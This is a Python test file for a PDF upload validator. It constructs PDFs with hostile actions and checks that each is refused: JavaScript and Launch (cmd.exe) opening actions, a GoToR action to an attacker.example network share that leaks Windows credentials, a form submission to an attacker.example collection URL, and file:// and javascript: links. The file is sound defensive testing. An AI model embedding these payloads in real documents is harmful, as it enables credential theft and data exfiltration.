"""A PDF is refused for what its actions and annotations do wherever they are written: in a
stream's dictionary as in any other (the check walked dictionaries and arrays only), and for
every action that reaches outside the file — another document (GoToR, a network share), a
form sent elsewhere, data imported, sound, video, 3D and rich media, a link that is not a
web page or an e-mail address. Scans and exported documents with web links still pass."""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from campaign import uploads
from tests.campaign.upload_files import PDF_BYTES, pdf_with, refusal

Name = pikepdf.Name
OUTSIDE = "trỏ ra ngoài"
SCRIPT = "tập lệnh"


def saved(pdf):
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def opening_with_a_stream(**action):
    """A PDF whose opening action is a stream object carrying `action` in its dictionary."""
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    pdf.Root.OpenAction = pdf.make_stream(b"", **action)
    return saved(pdf)


def with_annotation(**annotation):
    """A PDF whose page carries one annotation of `annotation`'s entries."""
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    annotation = pikepdf.Dictionary(
        Type=Name.Annot, Rect=pikepdf.Array([0, 0, 50, 20]), **annotation
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(annotation)])
    return saved(pdf)


def link(uri):
    return with_annotation(
        Subtype=Name.Link, A=pikepdf.Dictionary(S=Name.URI, URI=pikepdf.String(uri))
    )


def test_javascript_in_a_stream_opened_with_the_document_is_refused():
    content = opening_with_a_stream(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    assert SCRIPT in refusal("kh.pdf", content)


def test_a_launch_action_in_a_stream_is_refused():
    content = opening_with_a_stream(S=Name.Launch, F=pikepdf.String("cmd.exe"))
    assert SCRIPT in refusal("kh.pdf", content)


def test_an_action_nested_inside_a_stream_dictionary_is_refused():
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    form = pdf.make_stream(
        b"",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=pikepdf.Array([0, 0, 1, 1]),
        AA=pikepdf.Dictionary(
            O=pikepdf.Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        ),
    )
    pdf.pages[0].obj.Resources.XObject = pikepdf.Dictionary(X9=form)
    assert SCRIPT in refusal("kh.pdf", saved(pdf))


@pytest.mark.parametrize(
    "action",
    [
        # Another document, on a network share: Windows hands the share the reader's login.
        {"S": Name.GoToR, "F": pikepdf.String(r"\\attacker.example\share\x.pdf")},
        {"S": Name.GoToR, "F": pikepdf.String("other.pdf"), "D": pikepdf.Array([0, Name.Fit])},
        {"S": Name.GoToE, "F": pikepdf.String("//attacker.example/share/x.pdf")},
        {"S": Name.SubmitForm, "F": pikepdf.String("https://attacker.example/collect")},
        {"S": Name.ImportData, "F": pikepdf.String("data.fdf")},
        {"S": Name.Rendition, "OP": 0},
        {"S": Name.Movie, "T": pikepdf.String("m")},
        {"S": Name.Sound, "Volume": 1},
        {"S": Name.GoTo3DView, "V": 0},
        {"S": Name.Thread, "F": pikepdf.String("other.pdf"), "D": 0},
    ],
    ids=lambda action: str(action["S"]),
)
def test_actions_that_reach_outside_the_file_are_refused(action):
    assert OUTSIDE in refusal("kh.pdf", pdf_with(OpenAction=pikepdf.Dictionary(**action)))


def test_an_action_reaching_outside_in_a_stream_is_refused():
    content = opening_with_a_stream(S=Name.GoToR, F=pikepdf.String(r"\\host\share\x.pdf"))
    assert OUTSIDE in refusal("kh.pdf", content)


@pytest.mark.parametrize(
    "uri",
    [
        "file://host/share/x",
        "FILE:///C:/Windows/System32/calc.exe",
        r"\\host\share\x",
        "javascript:alert(1)",
        "smb://host/share",
        "x.exe",
        "tel:calc.exe",
    ],
)
def test_a_link_that_is_no_web_page_nor_mail_address_is_refused(uri):
    assert OUTSIDE in refusal("kh.pdf", link(uri))


@pytest.mark.parametrize("subtype", ["RichMedia", "3D", "Movie", "Sound", "Screen"])
def test_media_annotations_are_refused(subtype):
    assert OUTSIDE in refusal("kh.pdf", with_annotation(Subtype=Name(f"/{subtype}")))


@pytest.mark.parametrize(
    "uri",
    [
        "https://thuvienphapluat.vn/van-ban/",
        "http://ldld.example.gov.vn",
        "mailto:a@b.vn",
        "tel:+84 275 3822 123",  # a letter's footer, as Word exports it
    ],
)
def test_web_mail_and_telephone_links_are_accepted(uri):
    upload = SimpleUploadedFile("kh.pdf", link(uri))
    assert uploads.validate_upload(upload) == "application/pdf"


def test_a_link_within_the_document_is_accepted():
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    page = pdf.pages[0].obj
    inner = pikepdf.Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=pikepdf.Array([0, 0, 50, 20]),
        A=pikepdf.Dictionary(S=Name.GoTo, D=pikepdf.Array([page, Name.Fit])),
    )
    page.Annots = pikepdf.Array([pdf.make_indirect(inner)])
    upload = SimpleUploadedFile("kh.pdf", saved(pdf))
    assert uploads.validate_upload(upload) == "application/pdf"
